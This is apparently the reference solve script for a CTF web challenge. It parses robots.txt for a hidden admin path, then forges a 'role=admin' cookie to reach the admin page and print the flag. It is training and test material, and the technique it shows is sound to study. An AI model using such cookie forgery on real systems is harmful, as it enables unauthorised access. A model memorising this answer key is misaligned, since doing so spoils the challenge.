#!/usr/bin/env bash
# Reference solve for web-robots.
# Intended path: /robots.txt disallows /cgi-bin/admin; visiting it says
# "role guest" and sets the cookie role=guest. Sending Cookie: role=admin
# instead unlocks the admin panel, which prints the flag.
# Usage: solve.sh --connection-info "http://HOST:PORT"   (or env CTFDECK_HOST/CTFDECK_PORT)
# Prints only the flag on stdout; exit 0 on success, non-zero otherwise.
set -euo pipefail

conn=""
case "${1:-}" in
    --connection-info) conn="${2:-}" ;;
    --connection-info=*) conn="${1#*=}" ;;
esac
if [[ -z $conn && -n ${CTFDECK_HOST:-} ]]; then
    conn="http://${CTFDECK_HOST}:${CTFDECK_PORT:-8080}"
fi
[[ -n $conn ]] || { echo "usage: $0 --connection-info http://HOST:PORT" >&2; exit 2; }
[[ $conn == *://* ]] || conn="http://$conn"
base="${conn%/}"

# 1. robots.txt tells us where the admin panel is.
robots="$(curl -fsS --max-time 10 "$base/robots.txt")"
admin=""
while IFS= read -r line; do
    line="${line%$'\r'}"
    if [[ $line =~ ^[Dd]isallow:[[:space:]]*(/[^[:space:]]*) ]]; then admin="${BASH_REMATCH[1]}"; fi
done <<<"$robots"
[[ -n $admin ]] || { echo "no Disallow entry in robots.txt" >&2; exit 1; }

# 2. Forge the role cookie.
page="$(curl -sS --max-time 10 -H 'Cookie: role=admin' "$base$admin")"
if [[ $page =~ \<code\ id=\"flag\"\>([^<]+)\</code\> ]]; then
    printf '%s\n' "${BASH_REMATCH[1]}"
    exit 0
fi
echo "no flag in admin page" >&2
exit 1
